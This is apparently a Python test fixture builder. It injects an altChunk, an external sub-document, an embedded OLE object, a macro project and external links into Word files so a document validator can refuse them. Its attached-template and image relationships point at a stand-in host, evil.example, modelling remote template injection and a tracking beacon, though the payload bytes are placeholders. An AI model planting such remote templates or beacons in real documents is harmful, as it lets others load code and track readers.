"""Word files with what no form of ours holds: an attached template, macros, objects, and parts of other files."""

from __future__ import annotations

import io
import zipfile

_RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"

EVERY = (
    "an attached template",
    "text from another file",
    "a sub-document",
    "an embedded object",
    "a link to another file",
)
MACROS = "macros"


def with_foreign_parts(document: bytes, *, macros: bool = False) -> bytes:
    """The Word file with one of each kind, as Word saves them; with macros only if asked, for they are refused."""
    with zipfile.ZipFile(io.BytesIO(document)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    rels = "word/_rels/document.xml.rels"
    parts[rels] = _with_links(
        parts[rels],
        ("x1", f"{_RELATIONSHIPS}/aFChunk", "afchunk.html", ""),
        ("x2", f"{_RELATIONSHIPS}/subDocument", "file:///S:/other.docx", "External"),
        ("x3", f"{_RELATIONSHIPS}/oleObject", "embeddings/oleObject1.bin", ""),
        ("x4", f"{_RELATIONSHIPS}/image", "http://evil.example/seen.png", "External"),
        ("x5", f"{_RELATIONSHIPS}/hyperlink", "https://www.example.gov.uk/", "External"),
        *([("x6", f"{_MICROSOFT}/vbaProject", "vbaProject.bin", "")] if macros else []),
    )
    body = (
        f'<w:altChunk xmlns:r="{_RELATIONSHIPS}" r:id="x1"/><w:subDoc xmlns:r="{_RELATIONSHIPS}" r:id="x2"/>'
        f'<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
        f'xmlns:r="{_RELATIONSHIPS}" Type="Embed" ProgID="Package" r:id="x3"/></w:object></w:r></w:p>'
    )
    at = parts["word/document.xml"].rindex(b"<w:sectPr")
    parts["word/document.xml"] = parts["word/document.xml"][:at] + body.encode() + parts["word/document.xml"][at:]
    parts["word/afchunk.html"] = b"<p>Made up: of another file"
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0 made up"
    parts["word/_rels/settings.xml.rels"] = _with_links(
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>',
        ("x1", f"{_RELATIONSHIPS}/attachedTemplate", "http://evil.example/x.dotm", "External"),
    )
    start = f'<w:settings xmlns:w="{_WORD}" xmlns:r="{_RELATIONSHIPS}"><w:attachedTemplate r:id="x1"/></w:settings>'
    parts["word/settings.xml"] = start.encode()
    types = [("bin", "application/vnd.ms-office.vbaProject"), ("html", "text/html")][0 if macros else 1 :]
    more = "".join(f'<Default Extension="{ending}" ContentType="{kind}"/>' for ending, kind in types)
    if not macros:
        more += '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", more.encode() + b"</Types>")
    if macros:
        parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 made up"
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        )
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return stream.getvalue()


def _with_links(relationships: bytes, *links: tuple[str, str, str, str]) -> bytes:
    more = "".join(
        f'<Relationship Id="{identifier}" Type="{kind}" Target="{target}" TargetMode="{mode or "Internal"}"/>'
        for identifier, kind, target, mode in links
    )
    return relationships.replace(b"</Relationships>", more.encode() + b"</Relationships>")
